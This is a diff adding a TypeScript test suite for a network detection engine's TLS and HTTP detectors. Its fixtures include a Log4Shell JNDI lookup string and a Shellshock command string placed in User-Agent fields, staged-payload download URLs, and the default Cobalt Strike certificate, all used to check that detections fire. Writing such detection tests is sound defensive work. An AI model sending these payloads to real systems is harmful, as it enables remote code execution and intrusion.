@@ -1,0 +1,243 @@
+import type { HttpEvent, TelemetryType, TlsEvent } from '@vigil/contracts';
+import { assertValidOcsfFinding, httpEvents, tlsEvents } from '@vigil/testing';
+import { FindingAggregator } from '../../aggregation/finding-aggregator';
+import { buildAlert } from '../../alerts/alert-builder';
+import { DetectionEngine } from '../../engine';
+import { buildDetectionFinding } from '../../ocsf/finding-builder';
+import { CORE_FLAGS, FLAG_DICTIONARY } from '../../inventory/flags';
+import { CORE_THREATS, THREAT_DICTIONARY } from '../../inventory/threats';
+import { ATTACK_TACTICS, ATTACK_TECHNIQUES, parseAttackPair } from '../../mitre';
+import { observeEvent } from '../../observed-event';
+import { batch, httpEvent, iso, T0 } from '../../testing/fixtures';
+import type { DetectionHit, ObservedEvent } from '../detection';
+import { createWebDetectors, WEB_FLAGS, WEB_THREATS } from './index';
+
+const detectors = createWebDetectors();
+
+let seq = 0;
+function observed(type: TelemetryType, event: object): ObservedEvent {
+  return observeEvent(batch(`w${++seq}`, type, [event as never]), 0)!;
+}
+const tls = (extra: Partial<TlsEvent>) =>
+  observed('tls', { ts: iso(T0), srcIP: '10.0.0.5', destIP: '45.77.10.20', destPort: 443, ...extra });
+const http = (url: string, extra: Partial<HttpEvent> = {}) => observed('http', httpEvent(url, T0, '10.0.0.5', extra));
+
+function hitsOf(event: ObservedEvent): DetectionHit[] {
+  return detectors.filter((d) => d.types.includes(event.type)).flatMap((d) => d.inspect(event) ?? []);
+}
+function ids(event: ObservedEvent): string[] {
+  return hitsOf(event).map((h) => h.detection.id);
+}
+function only(event: ObservedEvent, id: string): DetectionHit {
+  const hits = hitsOf(event);
+  expect(hits.map((h) => h.detection.id)).toEqual([id]);
+  return hits[0];
+}
+
+const LE = "CN=R11,O=Let's Encrypt,C=US";
+const VALID = { validFrom: iso(T0 - 30 * 86_400_000), validTo: iso(T0 + 60 * 86_400_000) };
+const CHROME = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36';
+
+describe('web detection definitions', () => {
+  it('have unique ids, known threats and flags, valid MITRE pairs, severities 1-5 and a key description', () => {
+    const definitions = detectors.map((d) => d.definition);
+    expect(new Set(definitions.map((d) => d.id)).size).toBe(definitions.length);
+    for (const definition of definitions) {
+      expect({ id: definition.id, threat: THREAT_DICTIONARY[definition.threat] !== undefined }).toEqual({ id: definition.id, threat: true });
+      for (const flag of definition.flags) expect({ flag, known: FLAG_DICTIONARY[flag] !== undefined }).toEqual({ flag, known: true });
+      for (const pair of definition.mitreAttack) {
+        const { tacticUid, techniqueUid } = parseAttackPair(pair);
+        expect(ATTACK_TACTICS[tacticUid]).toBeDefined();
+        expect({ techniqueUid, named: ATTACK_TECHNIQUES[techniqueUid] !== undefined }).toEqual({ techniqueUid, named: true });
+      }
+      expect([1, 2, 3, 4, 5]).toContain(definition.severity);
+      expect(definition.keyDescription.length).toBeGreaterThan(0);
+    }
+  });
+
+  it('add only new threat and flag ids, merged into the dictionaries', () => {
+    for (const id of Object.keys(WEB_THREATS)) {
+      expect({ id, clash: CORE_THREATS[id] !== undefined }).toEqual({ id, clash: false });
+      expect(THREAT_DICTIONARY[id]).toEqual(WEB_THREATS[id]);
+    }
+    for (const id of Object.keys(WEB_FLAGS)) {
+      expect({ id, clash: CORE_FLAGS[id] !== undefined }).toEqual({ id, clash: false });
+      expect(FLAG_DICTIONARY[id]).toEqual(WEB_FLAGS[id]);
+    }
+  });
+});
+
+describe('TLS certificate detections', () => {
+  it('self-signed: issuer equals subject (order and case aside) on an Internet server', () => {
+    const hit = only(
+      tls({ subject: 'CN=update-srv.net, O=Update Services, C=US', issuer: 'C=US,O=update services,CN=update-srv.net', certHash: 'AB12CD', ...VALID }),
+      'tls_self_signed_certificate',
+    );
+    expect(hit.key).toBe('ab12cd');
+    expect(hit.wisdom.flags).toEqual(['self_signed_cert']);
+    expect(hit.desc).toMatch(/^TLS session to 45\.77\.10\.20:443 presented a self-signed certificate for update-srv\.net \(issuer equals subject\)/);
+  });
+
+  it('self-signed: silent for internal servers, CA-issued certificates and missing fields', () => {
+    expect(ids(tls({ destIP: '10.1.2.3', subject: 'CN=nas.local', issuer: 'CN=nas.local', ...VALID }))).toEqual([]);
+    expect(ids(tls({ subject: 'CN=www.google.com', issuer: 'CN=GTS CA 1C3,O=Google Trust Services LLC,C=US', ...VALID }))).toEqual([]);
+    expect(ids(tls({ subject: 'CN=www.example-shop.com', ...VALID }))).toEqual([]);
+    expect(ids(tls({ ja3: 'cd08e31494f9531f560d64c695473da9' }))).toEqual([]);
+  });
+
+  it('default and placeholder certificates, also in OpenSSL one-line form, reported once (not also as self-signed)', () => {
+    const widgits = '/C=AU/ST=Some-State/O=Internet Widgits Pty Ltd';
+    const hit = only(tls({ subject: widgits, issuer: widgits, ...VALID }), 'tls_default_certificate');
+    expect(hit.desc).toMatch(/O=Internet Widgits Pty Ltd \(OpenSSL default organisation\)/);
+    expect(only(tls({ subject: 'CN=localhost', issuer: 'CN=localhost', ...VALID }), 'tls_default_certificate').observations[1]).toBe('certificate for localhost');
+    expect(only(tls({ subject: 'CN=shop.example-store.net', issuer: 'CN=(STAGING) Artificial Apricot R3,O=(STAGING) Let\'s Encrypt,C=US', ...VALID }), 'tls_default_certificate').desc).toMatch(/staging CA/);
+    expect(only(tls({ subject: 'CN=login.bank.com', issuer: 'CN=PortSwigger CA,OU=PortSwigger CA,O=PortSwigger,C=PortSwigger', ...VALID }), 'tls_default_certificate').desc).toMatch(/interception/);
+  });
+
+  it('the stock Cobalt Strike certificate is reported as C2 (severity 5), not as a plain default certificate', () => {
+    const cs = 'C=Earth,ST=Cyberspace,L=Somewhere,O=cobaltstrike,OU=AdvancedPenTesting,CN=Major Cobalt Strike';
+    const hit = only(tls({ subject: cs, issuer: cs, ...VALID }), 'tls_c2_default_certificate');
+    expect(hit.detection.severity).toBe(5);
+    expect(hit.detection.threat).toBe('c2_communication');
+    expect(hit.wisdom).toEqual({ flags: ['default_cert', 'c2'], labels: ['c2:Cobalt Strike'] });
+  });
+
+  it('expired and not yet valid at the event time; zero dates and small clock skew are ignored', () => {
+    const expired = only(tls({ subject: 'CN=old.site.org', issuer: LE, validFrom: iso(T0 - 200 * 86_400_000), validTo: iso(T0 - 110 * 86_400_000) }), 'tls_invalid_certificate_dates');
+    expect(expired.desc).toMatch(/expired on .* \(110 days earlier\)/);
+    expect(only(tls({ subject: 'CN=new.site.org', issuer: LE, validFrom: iso(T0 + 5 * 86_400_000), validTo: iso(T0 + 95 * 86_400_000) }), 'tls_invalid_certificate_dates').desc).toMatch(/not valid before/);
+    expect(ids(tls({ subject: 'CN=a.site.org', issuer: LE, validFrom: '0001-01-01T00:00:00Z', validTo: '0001-01-01T00:00:00Z' }))).toEqual([]);
+    expect(ids(tls({ subject: 'CN=a.site.org', issuer: LE, validFrom: iso(T0 + 60_000), validTo: iso(T0 + 86_400_000) }))).toEqual([]);
+    expect(ids(tls({ subject: 'CN=a.site.org', issuer: LE, validTo: 'not a date' }))).toEqual([]);
+  });
+});
+
+describe('HTTP detections', () => {
+  it('executable downloads from unpopular domains and raw addresses, by extension or content type', () => {
+    const hit = only(http('http://cdn.fresh-updates.top/files/invoice.exe', { status: 200, userAgent: CHROME }), 'http_executable_download');
+    expect(hit.key).toBe('fresh-updates.top');
+    expect(hit.wisdom).toEqual({ flags: ['executable'], domain: 'fresh-updates.top' });
+    expect(hit.desc).toMatch(/^Executable download \(file invoice\.exe\) from cdn\.fresh-updates\.top \(fresh-updates\.top, not in the popularity rankings\)/);
+    expect(only(http('fresh-updates.top/get?id=7', { contentType: 'application/x-msdownload; charset=binary', userAgent: CHROME }), 'http_executable_download').observations[0]).toBe('content type application/x-msdownload');
+    expect(ids(http('http://45.77.10.50/a/run.ps1', { userAgent: CHROME }))).toEqual(['http_executable_download', 'http_raw_ip_url']);
+  });
+
+  it('executable downloads: silent for popular vendors, non-executables, failed requests and internal servers', () => {
+    expect(ids(http('https://download.microsoft.com/download/setup.exe', { userAgent: CHROME }))).toEqual([]);
+    expect(ids(http('http://au.download.windowsupdate.com/c/msdownload/update/x.msi', { userAgent: 'Microsoft BITS/7.8' }))).toEqual([]);
+    expect(ids(http('http://cdn.fresh-updates.top/static/app.js', { userAgent: CHROME }))).toEqual([]);
+    expect(ids(http('http://cdn.fresh-updates.top/files/invoice.exe', { status: 404, userAgent: CHROME }))).toEqual([]);
+    expect(ids(http('http://10.1.1.1/tools/setup.exe', { userAgent: CHROME }))).toEqual([]);
+  });
+
+  it('attack tools and exploit payloads in the User-Agent', () => {
+    expect(only(http('http://target-site.org/index.php?id=1', { userAgent: 'sqlmap/1.7.2#stable (https://sqlmap.org)' }), 'http_attack_tool_user_agent').key).toBe('sqlmap');
+    const jndi = only(http('https://www.google.com/', { userAgent: '${jndi:ldap://x.oast.fun/a}' }), 'http_attack_tool_user_agent');
+    expect(jndi.desc).toMatch(/Log4Shell JNDI lookup payload/);
+    expect(jndi.wisdom.labels).toEqual(['tool:Log4Shell JNDI lookup']);
+    expect(only(http('https://www.google.com/', { userAgent: '() { :;}; /bin/bash -c "id"' }), 'http_attack_tool_user_agent').key).toBe('Shellshock function definition');
+  });
+
+  it('obsolete browser User-Agents', () => {
+    const hit = only(http('http://gate.some-panel.xyz/gate.php', { userAgent: 'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)' }), 'http_obsolete_user_agent');
+    expect(hit.key).toBe('Internet Explorer 6');
+    expect(only(http('https://www.google.com/', { userAgent: 'Mozilla/4.0 (compatible; Windows NT 5.0)' }), 'http_obsolete_user_agent').key).toBe('Windows 2000');
+    expect(ids(http('https://www.google.com/', { userAgent: 'Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0)' }))).toEqual([]);
+  });
+
+  it('built-in Windows downloaders to unpopular destinations (threat), scripting clients (policy, severity 1)', () => {
+    const ps = only(http('http://stage2.badhost.xyz/payload', { userAgent: 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1' }), 'http_lolbin_download');
+    expect(ps.key).toBe('PowerShell|badhost.xyz');
+    expect(ps.detection.severity).toBe(3);
+    expect(only(http('http://stage2.badhost.xyz/p', { userAgent: 'CertUtil URL Agent' }), 'http_lolbin_download').wisdom.labels).toEqual(['client:CertUtil']);
+    const curl = only(http('http://stage2.badhost.xyz/p', { userAgent: 'curl/8.5.0' }), 'http_scripting_client');
+    expect(curl.detection.severity).toBe(1);
+    expect(THREAT_DICTIONARY[curl.detection.threat].policy).toBe(true);
+    // the same clients talking to popular sites, and Windows' certificate fetcher, are ordinary
+    expect(ids(http('https://github.com/PowerShell/releases/latest', { userAgent: 'WindowsPowerShell/5.1' }))).toEqual([]);
+    expect(ids(http('https://api.github.com/repos', { userAgent: 'curl/8.5.0' }))).toEqual([]);
+    expect(ids(http('http://crl.some-ca.xyz/ca.crl', { userAgent: 'Microsoft-CryptoAPI/10.0' }))).toEqual([]);
+  });
+
+  it('raw public IP URLs (IPv4 and IPv6), not private ones nor host names', () => {
+    expect(only(http('http://45.77.10.7:8080/index.html', { userAgent: CHROME }), 'http_raw_ip_url').key).toBe('45.77.10.7');
+    expect(only(http('http://[2a01:4f8::1]/', { userAgent: CHROME }), 'http_raw_ip_url').key).toBe('2a01:4f8::1');
+    expect(ids(http('http://192.168.1.1/login', { userAgent: CHROME }))).toEqual([]);
+    expect(ids(http('https://www.wikipedia.org/', { userAgent: CHROME }))).toEqual([]);
+  });
+
+  it('raw content from paste and file-drop services, not a person reading a paste', () => {
+    const hit = only(http('https://pastebin.com/raw/Xy12AbCd', { userAgent: CHROME }), 'http_paste_service');
+    expect(hit.wisdom).toEqual({ flags: ['paste_site'], labels: ['paste:Pastebin'], domain: 'pastebin.com' });
+    expect(only(http('https://paste.rs/abc', { userAgent: CHROME }), 'http_paste_service').key).toBe('paste.rs');
+    expect(ids(http('https://pastebin.com/Xy12AbCd', { userAgent: CHROME }))).toEqual([]);
+  });
+
+  it('ignores events without a usable URL or User-Agent', () => {
+    expect(ids(observed('http', { ts: iso(T0), srcIP: '10.0.0.5', url: '' }))).toEqual([]);
+    expect(ids(observed('http', { ts: iso(T0), srcIP: '10.0.0.5', url: 'http://fresh-updates.top/', userAgent: 42 }))).toEqual([]);
+  });
+});
+
+const CS = 'CN=Major Cobalt Strike,O=cobaltstrike';
+const CRAFTED_TLS: TlsEvent[] = [
+  { ts: iso(T0), srcIP: '10.0.0.7', destIP: '45.77.10.20', destPort: 443, subject: 'CN=c2.bad-host.xyz', issuer: 'CN=c2.bad-host.xyz', ...VALID },
+  { ts: iso(T0), srcIP: '10.0.0.7', destIP: '45.77.10.21', destPort: 443, subject: CS, issuer: CS, ...VALID },
+  { ts: iso(T0), srcIP: '10.0.0.7', destIP: '45.77.10.22', destPort: 443, subject: 'CN=old.site.org', issuer: LE, validFrom: iso(T0 - 400 * 86_400_000), validTo: iso(T0 - 10 * 86_400_000) },
+];
+const CRAFTED_HTTP: HttpEvent[] = [
+  httpEvent('http://cdn.fresh-updates.top/files/invoice.exe', T0, '10.0.0.8', { userAgent: CHROME }),
+  httpEvent('http://target-site.org/?id=1', T0, '10.0.0.8', { userAgent: 'sqlmap/1.7.2' }),
+  httpEvent('https://pastebin.com/raw/Xy12AbCd', T0, '10.0.0.8', { userAgent: 'WindowsPowerShell/5.1' }),
+  httpEvent('http://stage2.badhost.xyz/payload', T0, '10.0.0.8', { userAgent: 'WindowsPowerShell/5.1' }),
+];
+const CRAFTED_IDS = [
+  'tls_self_signed_certificate', 'tls_c2_default_certificate', 'tls_invalid_certificate_dates',
+  'http_executable_download', 'http_attack_tool_user_agent', 'http_paste_service', 'http_lolbin_download',
+];
+
+describe('web findings and alerts', () => {
+  it('aggregate into valid OCSF findings whose description says why, and into legacy alerts', () => {
+    const aggregator = new FindingAggregator(100);
+    const events = [
+      ...CRAFTED_TLS.map((e) => observed('tls', e)),
+      ...CRAFTED_HTTP.map((e) => observed('http', e)),
+    ];
+    const threats: string[] = [];
+    for (const event of events) {
+      const hits = hitsOf(event);
+      for (const hit of hits) aggregator.add(event.workspaceId, event.endpoint, hit, event.batchId);
+      threats.push(...(buildAlert(event, hits)?.alert.threats ?? []));
+    }
+    const versions = aggregator.flush(T0 + 60_000);
+    expect(new Set(versions.map((v) => v.detection.id))).toEqual(new Set(CRAFTED_IDS));
+    for (const version of versions) {
+      const finding = buildDetectionFinding(version, { processedMs: T0 + 61_000 });
+      assertValidOcsfFinding(finding);
+      expect(finding.finding_info.desc!.length).toBeGreaterThan(40);
+    }
+    expect(threats).toEqual(expect.arrayContaining(['c2_communication', 'self_signed_certificate', 'executable_download', 'attack_tool_user_agent', 'lolbin_download']));
+  });
+
+  it('raise nothing on 20,000 generated benign TLS handshakes and HTTP requests', () => {
+    const events = [
+      ...tlsEvents(10_000, { seed: 5, startTs: T0 }).map((e) => observed('tls', e)),
+      ...httpEvents(10_000, { seed: 5, startTs: T0 }).map((e) => observed('http', e)),
+    ];
+    const raised = events.flatMap((event) => hitsOf(event).map((h) => `${h.detection.id} ${h.key}`));
+    expect(raised).toEqual([]);
+  });
+});
+
+describe('web detections in the engine', () => {
+  it('are registered: crafted TLS and HTTP batches yield their valid findings', () => {
+    const engine = new DetectionEngine({ clock: () => T0 + 10 * 60_000 });
+    const findings = [
+      ...engine.process(batch('tls-1', 'tls', CRAFTED_TLS)).findings,
+      ...engine.process(batch('http-1', 'http', CRAFTED_HTTP)).findings,
+    ];
+    const analytics = findings.map((f) => (f.finding as unknown as { finding_info: { analytic: { uid: string } } }).finding_info.analytic.uid);
+    expect(new Set(analytics)).toEqual(new Set(CRAFTED_IDS));
+    for (const f of findings) assertValidOcsfFinding(f.finding);
+  });
+});
